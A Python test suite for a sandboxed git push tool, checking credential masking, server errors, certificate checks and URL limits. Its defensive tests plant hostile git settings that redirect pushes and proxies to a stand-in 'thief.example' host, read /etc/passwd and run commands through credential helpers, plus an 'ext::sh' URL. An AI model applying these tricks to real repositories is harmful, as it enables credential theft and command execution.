"""`git_push` to a real git server, in the sandbox. Run by `tests/tools/test_git_push_https.py`."""

import asyncio
import base64
import os
import shutil
import subprocess
import tempfile
from pathlib import Path
from typing import Any

from tests.network.inside.workers import BuiltIns
from tests.network.world import OTHER_PUBLIC, PUBLIC, World
from tests.tools.test_git import new_repository, plain
from toolkeep import Code, Keep, ToolResult
from toolkeep.approval.question import Answer, Question

TOKEN = "ghs_abcDEF0123456789"
CERTIFICATES = "/etc/ssl/certs"
HOST = "git.example"
URL = f"https://{HOST}/books.git"


class GitServer:
    """Serves the repositories of a folder as git's own program does; wants a password where one is set."""

    def __init__(self, folder: Path, password: str = "") -> None:
        self.folder = folder
        self.password = password
        self.heard: list[bytes] = []
        self.answer = b""
        """What it says instead, to everybody."""

    async def __call__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        self.heard.append(head)
        fields = _fields(head)
        if fields.get("expect"):
            writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        body = await _body(reader, fields)
        writer.write(self.answer or await asyncio.to_thread(self._answered, head, fields, body))
        await writer.drain()

    def _answered(self, head: bytes, fields: dict[str, str], body: bytes) -> bytes:
        wanted = "Basic " + base64.b64encode(self.password.encode()).decode()
        if self.password and fields.get("authorization") != wanted:
            return b"HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n"
        method, target, _ = head.split(b"\r\n")[0].decode().split(" ")
        path, _, query = target.partition("?")
        environment = {
            "PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": str(self.folder), "GIT_HTTP_EXPORT_ALL": "1",
            "PATH_INFO": path, "QUERY_STRING": query, "REQUEST_METHOD": method, "REMOTE_USER": "ada",
            "CONTENT_TYPE": fields.get("content-type", ""), "CONTENT_LENGTH": str(len(body)),
            "HTTP_CONTENT_ENCODING": fields.get("content-encoding", ""), "REMOTE_ADDR": "x",
            "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory",
            "GIT_CONFIG_VALUE_0": "*",
        }  # fmt: skip
        done = subprocess.run(
            ["git", "http-backend"], input=body, env=environment, capture_output=True, check=False
        )
        said, _, content = done.stdout.partition(b"\r\n\r\n")
        status = next((line[8:] for line in said.split(b"\r\n") if line.startswith(b"Status: ")), b"200 OK")
        length = f"Content-Length: {len(content)}\r\nConnection: close\r\n\r\n".encode()
        return b"HTTP/1.1 " + status + b"\r\n" + said + b"\r\n" + length + content


def _fields(head: bytes) -> dict[str, str]:
    lines = head.decode("latin-1").split("\r\n")[1:]
    return {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines) if name}


async def _body(reader: asyncio.StreamReader, fields: dict[str, str]) -> bytes:
    if "chunked" not in fields.get("transfer-encoding", ""):
        return await reader.readexactly(int(fields.get("content-length", "0")))
    found = b""
    while size := int(await reader.readline(), 16):
        found += (await reader.readexactly(size + 2))[:-2]
    await reader.readexactly(2)
    return found


class Forge:
    """A repository, a server with a bare one, and an agent that may push from the one to the other."""

    def __init__(self, world: World, folder: Path) -> None:
        self.world = world
        self.repository = new_repository(folder / "repository")
        self.bare = folder / "served" / "books.git"
        self.bare.mkdir(parents=True)
        plain(self.bare, "init", "-q", "--bare", "--template=")
        plain(self.bare, "config", "http.receivepack", "true")
        (self.bare / "hooks").mkdir()
        self.server = GitServer(folder / "served")
        self._secrets: dict[str, str] = {}
        self.keep = Keep(tool_secrets={"git_push": self._secrets}, approver=_yes)
        self.keep.load(BuiltIns())
        held = [f"net.write:{HOST}", f"fs.read:{folder}", "process.spawn:/usr/bin/git"]
        self.keep.declare_agent("ada", capabilities=held, permissions=["tool.vcs.write"])

    async def start(self, *, names: list[str] | None = None) -> None:
        self.world.name(HOST, [PUBLIC])
        await self.world.serve(self.server, PUBLIC, 443, names=names or [HOST])
        await self.world.hold(self.keep)

    async def push(self, url: str = URL, *, secrets: dict[str, str] | None = None, **more: Any) -> ToolResult:
        self._secrets.clear()
        self._secrets.update(secrets or {})
        arguments = {"path": str(self.repository), "url": url, **more}
        return await self.keep.call("git_push", arguments, agent="ada")

    def tip(self, folder: Path) -> str:
        return plain(folder, "rev-parse", "--verify", "refs/heads/main", is_checked=False).strip()

    def hook(self, text: str) -> None:
        path = self.bare / "hooks" / "pre-receive"
        path.write_text(f"#!/bin/sh\n{text}\n")
        path.chmod(0o755)


def _yes(question: Question) -> Answer:
    return Answer(verdict="approve", approver="eve", way="program")


def trust(world: World) -> None:
    """Let this world's authority count for everybody in it; what the system trusts is the system's to say."""
    copy = Path(tempfile.mkdtemp())
    shutil.copy(world.authority.file, copy / "ca-certificates.crt")
    copy.chmod(0o755)
    (copy / "ca-certificates.crt").chmod(0o644)
    subprocess.run(["mount", "--bind", str(copy), os.path.realpath(CERTIFICATES)], check=True)


async def forge(world: World, **more: Any) -> Forge:
    trust(world)
    made = Forge(world, new_folder())
    await made.start(**more)
    return made


def new_folder() -> Path:
    folder = Path(os.path.realpath(tempfile.mkdtemp()))
    folder.chmod(0o755)
    return folder


# --- what gets through ---------------------------------------------------------------------------


async def test_a_branch_is_pushed_to_a_server_from_the_sandbox(world: World) -> None:
    made = await forge(world)
    first = made.tip(made.repository)
    result = await made.push()
    assert (result.status, result.isolation) == ("ok", "strict"), result.text
    assert result.value == f"Pushed {first[:12]} to the new branch 'main' of {URL}"
    assert made.tip(made.bare) == first
    again = await made.push()
    assert again.value == f"'main' of {URL} is at {first[:12]} already; nothing was pushed", again.text


async def test_credentials_go_to_the_server_and_come_back_to_nobody(world: World) -> None:
    made = await forge(world)
    made.server.password = f"git:{TOKEN}"
    wanted = await made.push()
    assert wanted.code is Code.TOOL_FAILED
    assert f"the operator gives them as the secret '{HOST}' of git_push" in wanted.text, wanted.text
    wrong = await made.push(secrets={HOST: "another"})
    assert f"did not take the secret '{HOST}'" in wrong.text, wrong.text
    elsewhere = await made.push(secrets={"other.example": TOKEN})
    assert f"the operator gives them as the secret '{HOST}'" in elsewhere.text
    made.hook(f"echo 'you are {TOKEN}, or' $(printf 'git:{TOKEN}' | base64 -w0); exit 0")
    result = await made.push(secrets={HOST: TOKEN})
    assert result.ok, result.text
    assert "[the server says: you are (hidden), or (hidden)]" in result.text
    assert TOKEN not in result.text
    assert made.tip(made.bare) == made.tip(made.repository)


async def test_a_user_may_stand_before_the_token(world: World) -> None:
    made = await forge(world)
    made.server.password = f"ada:{TOKEN}"
    result = await made.push(secrets={HOST: f"ada:{TOKEN}"})
    assert result.ok, result.text


# --- what a server says no to --------------------------------------------------------------------


async def test_what_others_pushed_is_not_lost(world: World) -> None:
    made = await forge(world)
    await made.push()
    commit = "commit", "-q", "--allow-empty", "-m"
    plain(made.repository, *commit, "mine")
    await made.push()
    before = made.tip(made.bare)
    plain(made.repository, "reset", "-q", "--hard", "HEAD~1")
    plain(made.repository, *commit, "another")
    result = await made.push()
    assert "the branch there has commits that this one does not have" in result.text, result.text
    assert made.tip(made.bare) == before


async def test_a_protected_branch_is_said_to_be(world: World) -> None:
    made = await forge(world)
    made.hook("echo 'GH006: Protected branch update failed' >&2; exit 1")
    result = await made.push()
    assert "the server protects this branch" in result.text, result.text
    assert "GH006: Protected branch update failed" in result.text


async def test_each_trouble_is_told_apart(world: World) -> None:
    made = await forge(world)
    assert "there is no such repository" in (await made.push(f"https://{HOST}/none.git")).text
    plain(made.bare, "config", "http.receivepack", "false")
    assert "the server denied access" in (await made.push()).text
    made.server.answer = b"HTTP/1.1 302 Go\r\nLocation: https://other.example/\r\nContent-Length: 0\r\n\r\n"
    assert "redirects to another address" in (await made.push(secrets={HOST: TOKEN})).text
    made.server.answer = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
    assert "was not pushed" in (await made.push()).text


async def test_a_certificate_for_another_name_is_refused(world: World) -> None:
    made = await forge(world, names=["other.example"])
    plain(made.repository, "config", "http.sslVerify", "false")
    plain(made.repository, "config", f"http.https://{HOST}/.sslVerify", "false")
    result = await made.push(secrets={HOST: TOKEN})
    assert "no certificate that is trusted here" in result.text, result.text
    assert made.server.heard == []


# --- what a repository, or a server, would like --------------------------------------------------


async def test_nothing_of_the_repository_sends_the_branch_elsewhere(world: World) -> None:
    made = await forge(world)
    thief = GitServer(made.server.folder)
    world.name("thief.example", [OTHER_PUBLIC])
    await world.serve(thief, OTHER_PUBLIC, 443, names=["thief.example"])
    mark = made.repository / "ran"
    settings = {
        "url.https://thief.example/.insteadOf": f"https://{HOST}/",
        "url.https://thief.example/.pushInsteadOf": f"https://{HOST}/",
        f"remote.{URL}.url": "https://thief.example/books.git",
        f"remote.{URL}.pushurl": "https://thief.example/books.git",
        "http.proxy": "https://thief.example",
        f"http.https://{HOST}/.proxy": "https://thief.example",
        "http.extraHeader": "X-Stolen: yes",
        "http.cookieFile": "/etc/passwd",
        "credential.helper": f"!touch {mark}",
        "core.sshCommand": f"touch {mark}",
        "core.askPass": f"touch {mark}",
    }
    for name, value in settings.items():
        plain(made.repository, "config", name, value)
    result = await made.push(secrets={HOST: TOKEN})
    assert result.ok, result.text
    assert (thief.heard, mark.exists()) == ([], False)
    assert not any(b"X-Stolen" in head for head in made.server.heard)


async def test_what_a_server_writes_is_cleaned_and_cut(world: World) -> None:
    made = await forge(world)
    made.hook(
        "printf '\\033[31mred\\007 \\342\\200\\256 text\\n' >&2; yes flood | head -c 100000 >&2; exit 0"
    )
    result = await made.push()
    assert result.ok, result.text
    assert not any(char in result.text for char in "\x1b\x07\u202e")
    assert len(result.text) < 1_000


async def test_a_server_that_was_not_granted_is_not_asked(world: World) -> None:
    made = await forge(world)
    result = await made.push("https://other.example/books.git")
    assert result.code is Code.NOT_PERMITTED, result.text


async def test_only_https_is_pushed_to(world: World) -> None:
    made = await forge(world)
    for url in (
        f"http://{HOST}/books.git", f"ssh://{HOST}/books.git", f"https://ada:pw@{HOST}/books.git",
        f"git@{HOST}:books.git", "ext::sh -c touch", f"https://{HOST}/books.git?x=y", "file:///etc",
    ):  # fmt: skip
        assert (await made.push(url)).code in (Code.CONSTRAINT, Code.NOT_PERMITTED), url
